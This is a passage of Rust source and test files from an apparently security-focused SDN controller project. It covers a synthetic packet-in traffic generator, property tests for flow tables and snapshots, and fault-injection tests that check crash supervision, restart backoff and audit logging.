        // single emulated host, fall back to a synthetic external gateway.
        let (dst_s, dst_h) = if total > 1 {
            let mut dst_idx = self.rng.gen_range(0..total - 1);
            if dst_idx >= src_idx {
                dst_idx += 1;
            }
            (
                dst_idx / self.hosts_per_switch,
                dst_idx % self.hosts_per_switch,
            )
        } else {
            (self.num_switches, 0)
        };
        let frame = match self.kind {
            PacketKind::Arp => EthernetFrame::arp_request(
                self.host_mac(s, src_h),
                self.host_ip(s, src_h),
                self.host_ip(dst_s, dst_h),
            ),
            PacketKind::TcpSyn => EthernetFrame::tcp(
                self.host_mac(s, src_h),
                self.host_mac(dst_s, dst_h),
                self.host_ip(s, src_h),
                self.host_ip(dst_s, dst_h),
                self.rng.gen_range(1024..u16::MAX),
                80,
                TcpFlags {
                    syn: true,
                    ..TcpFlags::default()
                },
                Bytes::new(),
            ),
        };
        self.sent += 1;
        (
            DatapathId(s + 1),
            PacketIn {
                buffer_id: BufferId::NO_BUFFER,
                in_port: PortNo((src_h + 1) as u16),
                reason: PacketInReason::NoMatch,
                payload: frame.to_bytes(),
            },
        )
    }

    /// Produces a batch of `n` packet-ins (throughput mode).
    pub fn batch(&mut self, n: usize) -> Vec<(DatapathId, PacketIn)> {
        (0..n).map(|_| self.next_packet_in()).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_given_seed() {
        let mut a = TrafficGen::new(4, 8, PacketKind::Arp, 7);
        let mut b = TrafficGen::new(4, 8, PacketKind::Arp, 7);
        for _ in 0..50 {
            assert_eq!(a.next_packet_in(), b.next_packet_in());
        }
        let mut c = TrafficGen::new(4, 8, PacketKind::Arp, 8);
        let differs = (0..50).any(|_| a.next_packet_in() != c.next_packet_in());
        assert!(differs, "different seeds should differ");
    }

    #[test]
    fn dpids_in_range_and_payload_parses() {
        let mut g = TrafficGen::new(3, 4, PacketKind::TcpSyn, 1);
        for _ in 0..100 {
            let (dpid, pi) = g.next_packet_in();
            assert!((1..=3).contains(&dpid.0));
            let frame = EthernetFrame::from_bytes(pi.payload).unwrap();
            match frame.payload {
                sdnshield_openflow::packet::EthPayload::Ipv4(ip) => match ip.payload {
                    sdnshield_openflow::packet::IpPayload::Tcp(t) => {
                        assert!(t.flags.syn);
                        assert_eq!(t.dst_port, 80);
                    }
                    other => panic!("expected tcp, got {other:?}"),
                },
                other => panic!("expected ipv4, got {other:?}"),
            }
        }
        assert_eq!(g.generated(), 100);
    }

    #[test]
    fn arp_payload_is_arp() {
        let mut g = TrafficGen::new(2, 2, PacketKind::Arp, 1);
        let (_, pi) = g.next_packet_in();
        let frame = EthernetFrame::from_bytes(pi.payload).unwrap();
        assert!(matches!(
            frame.payload,
            sdnshield_openflow::packet::EthPayload::Arp(_)
        ));
        assert_eq!(frame.dst, EthAddr::BROADCAST);
    }

    #[test]
    fn never_talks_to_self() {
        let mut g = TrafficGen::new(1, 1, PacketKind::TcpSyn, 3);
        // With one switch and one host the destination must wrap to another
        // emulated switch; src==dst would be a degenerate workload.
        for _ in 0..10 {
            let (_, pi) = g.next_packet_in();
            let f = EthernetFrame::from_bytes(pi.payload).unwrap();
            assert_ne!(f.src, f.dst);
        }
    }

    #[test]
    fn batch_sizes() {
        let mut g = TrafficGen::new(2, 2, PacketKind::Arp, 5);
        assert_eq!(g.batch(32).len(), 32);
        assert_eq!(g.generated(), 32);
    }

    #[test]
    #[should_panic(expected = "at least one switch")]
    fn zero_switches_panics() {
        let _ = TrafficGen::new(0, 1, PacketKind::Arp, 0);
    }
}
