//! Differential and property tests for the lock-free read side (DESIGN.md
//! §13): every answer served from an RCU-published [`SwitchView`] snapshot
//! must be *identical* to the answer the locked flow table would give, and
//! a reader holding a snapshot across a writer's publish must never see a
//! torn table.

use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::Arc;

use proptest::prelude::*;

use sdnshield_netsim::network::Network;
use sdnshield_netsim::topology::builders;
use sdnshield_openflow::actions::ActionList;
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::messages::{FlowMod, FlowModCommand};
use sdnshield_openflow::types::{Cookie, DatapathId, PortNo, Priority};

fn flow_mod(cmd: FlowModCommand, tp_dst: u16, prio: u16, owner: u16) -> FlowMod {
    let mut fm = FlowMod::add(
        FlowMatch::default().with_tp_dst(tp_dst),
        Priority(prio),
        ActionList::output(PortNo(1)),
    );
    fm.command = cmd;
    fm.cookie = Cookie::with_owner(owner, tp_dst as u64);
    fm
}

proptest! {
    /// Differential oracle: after every mutation in a random flow-mod
    /// sequence, the published snapshot answers `len`, `table_stats`,
    /// `flow_stats`, `aggregate_stats` and `count_owned_by` exactly as the
    /// locked table does.
    #[test]
    fn snapshot_reads_equal_locked_reads(
        ops in proptest::collection::vec((0u8..5, 1u16..24, 0u16..300, 0u16..3), 1..48),
    ) {
        let net = Network::new(builders::linear(2), 64);
        let dpid = DatapathId(1);
        for (cmd, tp, prio, owner) in ops {
            let command = match cmd {
                0 | 1 => FlowModCommand::Add,
                2 => FlowModCommand::Modify,
                3 => FlowModCommand::Delete,
                _ => FlowModCommand::DeleteStrict,
            };
            let _ = net.apply_flow_mod(dpid, &flow_mod(command, tp, prio, owner));

            let view = net.switch_view(dpid).expect("switch 1 exists");
            let now = net.now();
            let query = FlowMatch::any();
            let narrow = FlowMatch::default().with_tp_dst(tp);
            let guard = net.switch(dpid).expect("switch 1 exists");
            let table = guard.table();
            prop_assert_eq!(view.table.len(), table.len());
            prop_assert_eq!(view.table.table_stats(), table.table_stats());
            prop_assert_eq!(view.table.flow_stats(&query, now), table.flow_stats(&query, now));
            prop_assert_eq!(view.table.flow_stats(&narrow, now), table.flow_stats(&narrow, now));
            prop_assert_eq!(view.table.aggregate_stats(&query), table.aggregate_stats(&query));
            for o in 0..3u16 {
                prop_assert_eq!(view.table.count_owned_by(o), table.count_owned_by(o));
            }
        }
    }

    /// The lock-free `flow_count` fast path agrees with the locked table
    /// after every mutation.
    #[test]
    fn flow_count_matches_locked_table(
        ops in proptest::collection::vec((0u8..4, 1u16..16), 1..32),
    ) {
        let net = Network::new(builders::linear(2), 64);
        let dpid = DatapathId(1);
        for (cmd, tp) in ops {
            let command = if cmd < 3 { FlowModCommand::Add } else { FlowModCommand::DeleteStrict };
            let _ = net.apply_flow_mod(dpid, &flow_mod(command, tp, 100, 1));
            let fast = net.flow_count(dpid).expect("switch 1 exists");
            let locked = net.switch(dpid).expect("switch 1 exists").table().len();
            prop_assert_eq!(fast, locked);
        }
    }
}

/// A reader pinned across writers' publishes never observes a torn table:
/// every snapshot it loads is internally consistent (`table_stats`
/// active-count == entry count == `flow_stats(any)` length), even while
/// writer threads churn inserts and strict deletes on the same switch.
#[test]
fn concurrent_readers_never_observe_torn_snapshots() {
    let net = Arc::new(Network::new(builders::linear(2), 4096));
    let dpid = DatapathId(1);
    let stop = Arc::new(AtomicBool::new(false));
    let reads = Arc::new(AtomicUsize::new(0));

    std::thread::scope(|s| {
        for w in 0..2u16 {
            let net = Arc::clone(&net);
            let stop = Arc::clone(&stop);
            s.spawn(move || {
                let mut i: u16 = 0;
                while !stop.load(Ordering::Relaxed) {
                    let tp = (i % 512) + 1 + w * 1000;
                    let cmd = if i % 3 == 2 {
                        FlowModCommand::DeleteStrict
                    } else {
                        FlowModCommand::Add
                    };
                    let _ = net.apply_flow_mod(dpid, &flow_mod(cmd, tp, 100, w));
                    i = i.wrapping_add(1);
                }
            });
        }
        for _ in 0..2 {
            let net = Arc::clone(&net);
            let stop = Arc::clone(&stop);
            let reads = Arc::clone(&reads);
            s.spawn(move || {
                let query = FlowMatch::any();
                while !stop.load(Ordering::Relaxed) {
                    let view = net.switch_view(dpid).expect("switch 1 exists");
                    let stats = view.table.table_stats();
                    let len = view.table.len();
                    assert_eq!(
                        stats.active_count as usize, len,
                        "snapshot counters must match snapshot entries"
                    );
                    assert_eq!(
                        view.table.flow_stats(&query, 0).len(),
                        len,
                        "every snapshot entry answers the any-query"
                    );
                    reads.fetch_add(1, Ordering::Relaxed);
                }
            });
        }
        std::thread::sleep(std::time::Duration::from_millis(200));
        stop.store(true, Ordering::Relaxed);
    });
    assert!(reads.load(Ordering::Relaxed) > 0, "readers made progress");
}

/// A snapshot held across later writes is frozen at its publish point —
/// the writer's subsequent mutations never reach it — while a fresh view
/// always reflects the writes (read-your-writes when single-threaded).
#[test]
fn held_snapshot_is_immutable_while_writers_advance() {
    let net = Network::new(builders::linear(2), 64);
    let dpid = DatapathId(1);
    for tp in 1..=5 {
        net.apply_flow_mod(dpid, &flow_mod(FlowModCommand::Add, tp, 100, 1))
            .unwrap();
    }
    let held = net.switch_view(dpid).expect("switch 1 exists");
    assert_eq!(held.table.len(), 5);

    for tp in 6..=20 {
        net.apply_flow_mod(dpid, &flow_mod(FlowModCommand::Add, tp, 100, 1))
            .unwrap();
    }
    assert_eq!(held.table.len(), 5, "held snapshot frozen at publish time");
    let fresh = net.switch_view(dpid).expect("switch 1 exists");
    assert_eq!(fresh.table.len(), 20, "fresh view sees all writes");
}

/// Topology snapshots behave the same way: `Network::topology` hands out
/// an immutable `Arc` that later `with_topology_mut` publishes never
/// mutate in place, and concurrent readers always see a complete graph
/// (connect() adds the link and both ports atomically from the readers'
/// perspective).
#[test]
fn topology_snapshots_are_atomic_under_concurrent_mutation() {
    let net = Arc::new(Network::new(builders::linear(3), 64));
    let before = net.topology();
    let links_before = before.links().len();

    let stop = Arc::new(AtomicBool::new(false));
    std::thread::scope(|s| {
        let writer_net = Arc::clone(&net);
        let writer_stop = Arc::clone(&stop);
        s.spawn(move || {
            let mut on = false;
            while !writer_stop.load(Ordering::Relaxed) {
                writer_net.with_topology_mut(|t| {
                    if on {
                        t.remove_link(DatapathId(1), DatapathId(3));
                    } else {
                        t.connect(DatapathId(1), DatapathId(3));
                    }
                });
                on = !on;
            }
            // Leave the extra link removed.
            writer_net.with_topology_mut(|t| {
                t.remove_link(DatapathId(1), DatapathId(3));
            });
        });
        let reader_stop = Arc::clone(&stop);
        let reader_net = Arc::clone(&net);
        s.spawn(move || {
            while !reader_stop.load(Ordering::Relaxed) {
                let topo = reader_net.topology();
                let links = topo.links().len();
                // `connect` installs both directions of a link in one
                // publish: a reader can see the graph before or after the
                // mutation, never with one half-installed direction.
                assert!(
                    links == links_before || links == links_before + 2,
                    "reader saw a half-applied topology mutation: {links} links"
                );
                // The link set and the port maps publish together: if the
                // 1→3 link is visible, its egress port resolves to it.
                if let Some(link) = topo.link_between(DatapathId(1), DatapathId(3)) {
                    let via_port = topo.link_from(link.src, link.src_port);
                    assert_eq!(via_port.map(|l| l.dst), Some(link.dst));
                }
            }
        });
        std::thread::sleep(std::time::Duration::from_millis(150));
        stop.store(true, Ordering::Relaxed);
    });

    assert_eq!(
        before.links().len(),
        links_before,
        "held topology snapshot never mutated in place"
    );
    assert_eq!(net.topology().links().len(), links_before);
}
