//! Property tests for the network simulator: path invariants, flow-table
//! semantics under random operation sequences, and data-plane conservation.

use bytes::Bytes;
use proptest::prelude::*;

use sdnshield_netsim::network::{Delivery, Network};
use sdnshield_netsim::topology::{builders, Topology};
use sdnshield_netsim::trafficgen::{PacketKind, TrafficGen};
use sdnshield_openflow::actions::ActionList;
use sdnshield_openflow::flow_match::FlowMatch;
use sdnshield_openflow::flow_table::FlowTable;
use sdnshield_openflow::messages::{FlowMod, FlowModCommand};
use sdnshield_openflow::packet::{EthernetFrame, TcpFlags};
use sdnshield_openflow::types::{DatapathId, EthAddr, Ipv4, PortNo, Priority};

fn arb_topology() -> impl Strategy<Value = Topology> {
    prop_oneof![
        (2usize..12).prop_map(builders::linear),
        (2usize..8).prop_map(builders::star),
        (2usize..6).prop_map(builders::mesh),
    ]
}

proptest! {
    /// Shortest paths are real paths: endpoints correct, every hop adjacent,
    /// length bounded by the switch count.
    #[test]
    fn shortest_paths_are_valid(topo in arb_topology(), a in 1u64..12, b in 1u64..12) {
        let (a, b) = (DatapathId(a), DatapathId(b));
        if let Some(path) = topo.shortest_path(a, b) {
            prop_assert_eq!(path[0], a);
            prop_assert_eq!(*path.last().unwrap(), b);
            prop_assert!(path.len() <= topo.switch_count());
            for w in path.windows(2) {
                prop_assert!(topo.link_between(w[0], w[1]).is_some(),
                    "hop {}→{} not adjacent", w[0], w[1]);
            }
        } else {
            // Unreachable only when one endpoint is absent (our builders
            // produce connected graphs).
            prop_assert!(!topo.contains_switch(a) || !topo.contains_switch(b));
        }
    }

    /// Weighted and unweighted paths agree on reachability, and the weighted
    /// cost is at most hop-count (weights are ≥ 1, builders use weight 1).
    #[test]
    fn weighted_agrees_on_reachability(topo in arb_topology(), a in 1u64..12, b in 1u64..12) {
        let (a, b) = (DatapathId(a), DatapathId(b));
        let unweighted = topo.shortest_path(a, b);
        let weighted = topo.shortest_path_weighted(a, b);
        prop_assert_eq!(unweighted.is_some(), weighted.is_some());
        if let (Some(u), Some((_, cost))) = (unweighted, weighted) {
            prop_assert_eq!(cost, (u.len() - 1) as u64);
        }
    }

    /// Random flow-mod sequences keep the table within capacity and keep
    /// priority ordering intact.
    #[test]
    fn flow_table_invariants(
        ops in proptest::collection::vec((0u8..5, 0u16..16, 0u16..400), 0..64),
        capacity in 1usize..32,
    ) {
        let mut table = FlowTable::new(capacity);
        for (i, (cmd, port, prio)) in ops.into_iter().enumerate() {
            let command = match cmd {
                0 => FlowModCommand::Add,
                1 => FlowModCommand::Modify,
                2 => FlowModCommand::ModifyStrict,
                3 => FlowModCommand::Delete,
                _ => FlowModCommand::DeleteStrict,
            };
            let fm = FlowMod {
                command,
                flow_match: FlowMatch::default().with_tp_dst(port),
                priority: Priority(prio),
                actions: ActionList::output(PortNo(1)),
                cookie: sdnshield_openflow::types::Cookie(i as u64),
                idle_timeout: 0,
                hard_timeout: 0,
                notify_when_removed: false,
            };
            let _ = table.apply(&fm, i as u64);
            prop_assert!(table.len() <= capacity);
            let priorities: Vec<u16> = table.iter().map(|e| e.priority.0).collect();
            let mut sorted = priorities.clone();
            sorted.sort_unstable_by(|a, b| b.cmp(a));
            prop_assert_eq!(priorities, sorted, "table must stay priority-sorted");
        }
    }

    /// Every injected packet terminates in an explicit delivery — nothing is
    /// silently lost, no matter what rules are installed.
    #[test]
    fn dataplane_conserves_packets(
        n in 2usize..6,
        rules in proptest::collection::vec((1u64..6, 0u16..6, 0u16..100), 0..12),
        src in 1u64..6,
        dst in 1u64..6,
    ) {
        let net = Network::new(builders::linear(n), 1024);
        for (dpid, out_port, prio) in rules {
            if dpid > n as u64 {
                continue;
            }
            let _ = net.apply_flow_mod(
                DatapathId(dpid),
                &FlowMod::add(
                    FlowMatch::any(),
                    Priority(prio),
                    if out_port == 0 {
                        ActionList::drop()
                    } else {
                        ActionList::output(PortNo(out_port))
                    },
                ),
            );
        }
        let src = 1 + (src - 1) % n as u64;
        let dst = 1 + (dst - 1) % n as u64;
        let frame = EthernetFrame::tcp(
            EthAddr::from_u64(src),
            EthAddr::from_u64(dst),
            Ipv4::new(10, 0, 0, src as u8),
            Ipv4::new(10, 0, 0, dst as u8),
            1000,
            80,
            TcpFlags::default(),
            Bytes::new(),
        );
        let deliveries = net.inject_from_host(frame).unwrap();
        prop_assert!(!deliveries.is_empty(), "packet must terminate somewhere");
        for d in deliveries {
            match d {
                Delivery::ToHost { .. } | Delivery::ToController { .. } | Delivery::Dropped { .. } => {}
            }
        }
    }

    /// The traffic generator's packet-ins always parse and target existing
    /// emulated switches.
    #[test]
    fn trafficgen_wellformed(switches in 1u64..16, hosts in 1u64..16, seed in any::<u64>(), kind in any::<bool>()) {
        let kind = if kind { PacketKind::Arp } else { PacketKind::TcpSyn };
        let mut gen = TrafficGen::new(switches, hosts, kind, seed);
        for _ in 0..32 {
            let (dpid, pi) = gen.next_packet_in();
            prop_assert!((1..=switches).contains(&dpid.0));
            let frame = EthernetFrame::from_bytes(pi.payload).unwrap();
            prop_assert_ne!(frame.src, frame.dst);
        }
    }
}
