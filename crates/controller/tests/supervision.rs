//! Crash-containment and supervision tests: a faulty app driven by a
//! [`FaultPlan`] crashes in every way the fault model (DESIGN.md "Fault
//! model & supervision") covers, and the supervisor must reap it end-to-end
//! while the controller and its peer apps keep running.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use sdnshield_apps::attacks::CrasherApp;
use sdnshield_controller::app::{App, AppCtx};
use sdnshield_controller::audit::AuditOutcome;
use sdnshield_controller::events::Event;
use sdnshield_controller::{
    AppState, ControllerConfig, FaultPlan, RegisterError, RestartPolicy, ShieldedController,
};
use sdnshield_core::api::EventKind;
use sdnshield_core::lang::parse_manifest;
use sdnshield_core::perm::PermissionSet;
use sdnshield_netsim::network::Network;
use sdnshield_netsim::topology::builders;
use sdnshield_openflow::messages::{PacketIn, PacketInReason};
use sdnshield_openflow::types::{BufferId, DatapathId, Ipv4, PortNo};

fn controller() -> ShieldedController {
    ShieldedController::new(Network::new(builders::linear(3), 1024), 4)
}

fn pi(payload: &'static [u8]) -> PacketIn {
    PacketIn {
        buffer_id: BufferId::NO_BUFFER,
        in_port: PortNo(1),
        reason: PacketInReason::NoMatch,
        payload: Bytes::from_static(payload),
    }
}

fn manifest(src: &str) -> PermissionSet {
    parse_manifest(src).unwrap()
}

/// Crash handling runs on the crashed app's own thread after the delivery
/// ack, so tests poll for the post-crash state instead of assuming it is
/// visible the moment the delivery call returns.
fn wait_until(what: &str, mut cond: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(5);
    while !cond() {
        if Instant::now() >= deadline {
            // Printed directly: several tests suppress the panic hook.
            eprintln!("timed out waiting for: {what}");
            panic!("timed out waiting for: {what}");
        }
        std::thread::sleep(Duration::from_millis(1));
    }
}

/// Silences the expected panic backtraces for the duration of `f`.
fn with_quiet_panics(f: impl FnOnce()) {
    let prev_hook = std::panic::take_hook();
    std::panic::set_hook(Box::new(|_| {}));
    f();
    std::panic::set_hook(prev_hook);
}

/// A well-behaved peer that counts the packet-ins it sees.
struct Counter {
    seen: Arc<AtomicUsize>,
}

impl App for Counter {
    fn name(&self) -> &str {
        "counter"
    }
    fn on_start(&mut self, ctx: &AppCtx) {
        ctx.subscribe(EventKind::PacketIn).unwrap();
    }
    fn on_event(&mut self, _ctx: &AppCtx, event: &Event) {
        if matches!(event, Event::PacketIn { .. }) {
            self.seen.fetch_add(1, Ordering::SeqCst);
        }
    }
}

#[test]
fn crash_mid_event_reaps_flows_and_audits() {
    with_quiet_panics(|| {
        let c = controller();
        let (app, stats) = CrasherApp::new(FaultPlan::none().panic_on_event(2));
        let app = app.with_canary_flow(DatapathId(1));
        let id = c
            .register(
                Box::new(app),
                &manifest("PERM pkt_in_event\nPERM insert_flow"),
            )
            .unwrap();
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
        assert_eq!(c.kernel().flow_count(DatapathId(1)), 1, "canary in place");
        c.deliver_packet_in(DatapathId(1), pi(b"y"));
        // The supervisor reaps the crashed app's flows...
        wait_until("canary flow reclaimed", || {
            c.kernel().flow_count(DatapathId(1)) == 0
        });
        // ...records the crash on the audit trail...
        let audit = c.kernel().audit_records_since(0);
        assert!(audit.iter().any(|r| r.app == id
            && r.outcome == AuditOutcome::Crashed
            && r.operation == "crash:on_event"));
        // ...and, under the default never-restart policy, parks it for good.
        wait_until("app stopped", || c.app_state(id) == Some(AppState::Stopped));
        assert_eq!(c.crash_count(id), 1);
        assert_eq!(stats.lock().events_seen, 2);
        c.shutdown();
    });
}

#[test]
fn crash_removes_subscriptions() {
    with_quiet_panics(|| {
        let c = controller();
        let (app, stats) = CrasherApp::new(FaultPlan::none().panic_on_event(1));
        let id = c
            .register(Box::new(app), &manifest("PERM pkt_in_event"))
            .unwrap();
        assert!(c.kernel().subscribers(EventKind::PacketIn).contains(&id));
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
        wait_until("subscription dropped", || {
            !c.kernel().subscribers(EventKind::PacketIn).contains(&id)
        });
        // Later events no longer reach the dead app.
        c.deliver_packet_in(DatapathId(1), pi(b"y"));
        c.deliver_packet_in(DatapathId(1), pi(b"z"));
        assert_eq!(stats.lock().events_seen, 1);
        c.shutdown();
    });
}

#[test]
fn crash_closes_host_connections() {
    with_quiet_panics(|| {
        let c = controller();
        let (app, stats) = CrasherApp::new(FaultPlan::none().panic_on_event(1));
        let app = app.with_host_conn(Ipv4::new(203, 0, 113, 7), 443);
        let id = c
            .register(
                Box::new(app),
                &manifest("PERM pkt_in_event\nPERM host_network"),
            )
            .unwrap();
        assert_eq!(stats.lock().conns_opened, 1);
        assert!(c
            .kernel()
            .connections_by(id)
            .iter()
            .any(|conn| !conn.closed));
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
        wait_until("host connections closed", || {
            c.kernel().connections_by(id).iter().all(|conn| conn.closed)
        });
        // The connection record survives (forensics), but is dead.
        assert_eq!(c.kernel().connections_by(id).len(), 1);
        c.shutdown();
    });
}

#[test]
fn peers_survive_a_crashing_neighbor() {
    with_quiet_panics(|| {
        let c = controller();
        let (crasher, _) = CrasherApp::new(FaultPlan::none().panic_on_event(1));
        c.register(Box::new(crasher), &manifest("PERM pkt_in_event"))
            .unwrap();
        let seen = Arc::new(AtomicUsize::new(0));
        c.register(
            Box::new(Counter {
                seen: Arc::clone(&seen),
            }),
            &manifest("PERM pkt_in_event"),
        )
        .unwrap();
        for _ in 0..3 {
            c.deliver_packet_in(DatapathId(1), pi(b"x"));
        }
        assert_eq!(
            seen.load(Ordering::SeqCst),
            3,
            "peer must see every event despite the neighbor crashing"
        );
        c.shutdown();
    });
}

#[test]
fn restart_policy_backs_off_exponentially_then_gives_up() {
    with_quiet_panics(|| {
        let c = controller();
        // Every incarnation crashes on its first event.
        let (template, stats) = CrasherApp::new(FaultPlan::none().panic_on_event(1));
        let id = c
            .register_supervised(
                move || Box::new(template.clone_fresh()),
                &manifest("PERM pkt_in_event"),
                RestartPolicy::UpTo {
                    max_restarts: 2,
                    backoff_base_secs: 4,
                },
            )
            .unwrap();
        assert_eq!(c.app_state(id), Some(AppState::Running));

        // Crash 1 at t=0: quarantined until t=4 (base * 2^0).
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
        wait_until("first quarantine", || {
            c.app_state(id) == Some(AppState::Quarantined { until: 4 })
        });
        c.advance_clock(3);
        assert_eq!(
            c.app_state(id),
            Some(AppState::Quarantined { until: 4 }),
            "backoff must not release early"
        );
        c.advance_clock(1);
        assert_eq!(c.app_state(id), Some(AppState::Running));
        assert_eq!(c.restart_count(id), 1);
        assert_eq!(stats.lock().starts, 2, "fresh instance re-ran on_start");

        // Crash 2 at t=4: quarantined until t=12 (base * 2^1).
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
        wait_until("second quarantine", || {
            c.app_state(id) == Some(AppState::Quarantined { until: 12 })
        });
        c.advance_clock(8);
        assert_eq!(c.app_state(id), Some(AppState::Running));
        assert_eq!(c.restart_count(id), 2);

        // Crash 3: the restart budget is exhausted.
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
        wait_until("terminal stop", || {
            c.app_state(id) == Some(AppState::Stopped)
        });
        c.advance_clock(100);
        assert_eq!(c.app_state(id), Some(AppState::Stopped));
        assert_eq!(c.crash_count(id), 3);
        assert_eq!(stats.lock().starts, 3);
        c.shutdown();
    });
}

#[test]
fn quiesce_timeout_returns_while_an_app_stalls() {
    let c = controller();
    let (app, stats) =
        CrasherApp::new(FaultPlan::none().stall_on_event(1, Duration::from_millis(200)));
    c.register(Box::new(app), &manifest("PERM pkt_in_event"))
        .unwrap();
    c.deliver_packet_in_nowait(DatapathId(1), pi(b"x"));
    // The app is asleep inside on_event: a bounded wait reports the truth
    // instead of spinning forever.
    assert!(
        !c.quiesce_timeout(Duration::from_millis(30)),
        "controller cannot be quiescent while an app stalls"
    );
    // Once the stall ends the same controller drains normally.
    c.quiesce();
    assert_eq!(stats.lock().events_seen, 1);
    c.shutdown();
}

#[test]
fn deputy_panic_poisons_the_call_not_the_deputy() {
    with_quiet_panics(|| {
        let c = controller();
        let (app, stats) = CrasherApp::new(FaultPlan::none());
        let app = app.with_canary_flow(DatapathId(1));
        let id = c
            .register(
                Box::new(app),
                &manifest("PERM pkt_in_event\nPERM insert_flow"),
            )
            .unwrap();
        // Armed after registration, so on_start's calls are not counted:
        // the next mediated call (the per-event canary insert) is the one
        // that panics inside the deputy.
        c.arm_faults(id, FaultPlan::none().panic_in_deputy(1));
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
        let err = stats.lock().last_call_error.clone();
        assert!(
            err.as_deref()
                .unwrap_or("")
                .contains("internal controller fault"),
            "app must see ApiError::Internal, got {err:?}"
        );
        // The fault was contained to the call: no deputy died.
        assert_eq!(c.deputy_respawns(), 0);
        assert_eq!(c.deputies_alive(), 4);
        // The next call on the same controller succeeds.
        c.deliver_packet_in(DatapathId(1), pi(b"y"));
        assert_eq!(c.kernel().flow_count(DatapathId(1)), 1);
        assert_eq!(stats.lock().events_seen, 2);
        c.shutdown();
    });
}

#[test]
fn watchdog_respawns_a_killed_deputy() {
    with_quiet_panics(|| {
        let c = controller();
        let (app, _stats) = CrasherApp::new(FaultPlan::none());
        let app = app.with_canary_flow(DatapathId(1));
        let id = c
            .register(
                Box::new(app),
                &manifest("PERM pkt_in_event\nPERM insert_flow"),
            )
            .unwrap();
        c.arm_faults(id, FaultPlan::none().kill_deputy(1));
        c.deliver_packet_in(DatapathId(1), pi(b"x"));
        wait_until("watchdog replaced the dead deputy", || {
            c.deputy_respawns() >= 1 && c.deputies_alive() == 4
        });
        // The pool is whole again: calls flow.
        c.deliver_packet_in(DatapathId(1), pi(b"y"));
        assert_eq!(c.kernel().flow_count(DatapathId(1)), 1);
        c.shutdown();
    });
}

#[test]
fn dropped_reply_surfaces_as_timeout_not_hang() {
    let c = ShieldedController::new_with_config(
        Network::new(builders::linear(3), 1024),
        ControllerConfig {
            num_deputies: 4,
            call_timeout: Duration::from_millis(50),
            ..ControllerConfig::default()
        },
    );
    let (app, stats) = CrasherApp::new(FaultPlan::none());
    let app = app.with_canary_flow(DatapathId(1));
    let id = c
        .register(
            Box::new(app),
            &manifest("PERM pkt_in_event\nPERM insert_flow"),
        )
        .unwrap();
    c.arm_faults(id, FaultPlan::none().drop_reply(1));
    let started = Instant::now();
    c.deliver_packet_in(DatapathId(1), pi(b"x"));
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "a swallowed reply must be bounded by the call timeout"
    );
    let err = stats.lock().last_call_error.clone();
    assert!(
        err.as_deref().unwrap_or("").contains("timed out"),
        "app must see ApiError::Timeout, got {err:?}"
    );
    c.shutdown();
}

#[test]
fn overload_sheds_oldest_events_and_audits_them() {
    let c = ShieldedController::new_with_config(
        Network::new(builders::linear(3), 1024),
        ControllerConfig {
            num_deputies: 4,
            app_queue_capacity: 4,
            ..ControllerConfig::default()
        },
    );
    let (app, stats) =
        CrasherApp::new(FaultPlan::none().stall_on_event(1, Duration::from_millis(100)));
    let id = c
        .register(Box::new(app), &manifest("PERM pkt_in_event"))
        .unwrap();
    // Let the first event begin its stall, then flood the stalled app.
    c.deliver_packet_in_nowait(DatapathId(1), pi(b"x"));
    wait_until("stall entered", || stats.lock().events_seen == 1);
    for _ in 0..20 {
        c.deliver_packet_in_nowait(DatapathId(1), pi(b"y"));
    }
    c.quiesce();
    let seen = stats.lock().events_seen;
    assert!(
        seen < 21,
        "a bounded queue cannot deliver all 21 events ({seen} seen)"
    );
    let shed = c
        .kernel()
        .audit_records_since(0)
        .iter()
        .filter(|r| {
            r.app == id && r.outcome == AuditOutcome::Dropped && r.operation == "event_shed"
        })
        .count() as u64;
    assert!(shed >= 1, "shed events must be audited");
    // Accounting closes: every flooded event was either delivered or shed.
    assert_eq!(seen + shed, 21);
    c.shutdown();
}

#[test]
fn rejected_registration_leaves_no_kernel_state() {
    let c = controller();
    // Requires insert_flow (canary) but the manifest only grants pkt_in.
    let (app, _stats) = CrasherApp::new(FaultPlan::none());
    let app = app.with_canary_flow(DatapathId(1));
    let err = c
        .register(Box::new(app), &manifest("PERM pkt_in_event"))
        .unwrap_err();
    assert!(matches!(err, RegisterError::MissingTokens(_)));
    // The rejected app must not stay resident in the kernel.
    assert!(
        c.kernel().app_name(sdnshield_core::api::AppId(1)).is_none(),
        "rejected registration leaked kernel state"
    );
    assert!(c.kernel().subscribers(EventKind::PacketIn).is_empty());
    c.shutdown();
}

#[test]
fn startup_panic_leaves_no_kernel_state() {
    with_quiet_panics(|| {
        let c = controller();
        let (app, stats) = CrasherApp::new(FaultPlan::none().panic_on_start());
        let err = c
            .register(Box::new(app), &manifest("PERM pkt_in_event"))
            .unwrap_err();
        assert_eq!(err, RegisterError::StartupPanic);
        assert_eq!(stats.lock().starts, 1);
        assert!(c.kernel().app_name(sdnshield_core::api::AppId(1)).is_none());
        assert!(c.kernel().subscribers(EventKind::PacketIn).is_empty());
        assert_eq!(c.app_state(sdnshield_core::api::AppId(1)), None);
        c.shutdown();
    });
}
