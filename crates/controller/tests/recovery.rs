//! Crash recovery, record/replay, and warm-standby failover (DESIGN.md §12).
//!
//! What is proved here:
//!
//! * **Snapshot + log-replay restart**: a kernel rebuilt from a
//!   [`KernelSnapshot`] plus the journal suffix is observationally
//!   equivalent to the kernel that never crashed — registry, tracker
//!   epochs, flow tables, switch counters, subscriptions, host state.
//! * **Crash consistency under injected journal faults**: a torn write,
//!   a corrupted CRC, or a crash in the apply→append window each leave a
//!   journal that recovery either fully replays or cleanly truncates —
//!   never a half-applied command.
//! * **Audit continuity**: replayed commands re-audit under `replay:` tags
//!   with numbering that extends the pre-crash sequence, so audit cursors
//!   survive the restart without double-counting or phantom loss.
//! * **Differential recovery at scale**: 256+ generated command traces ×
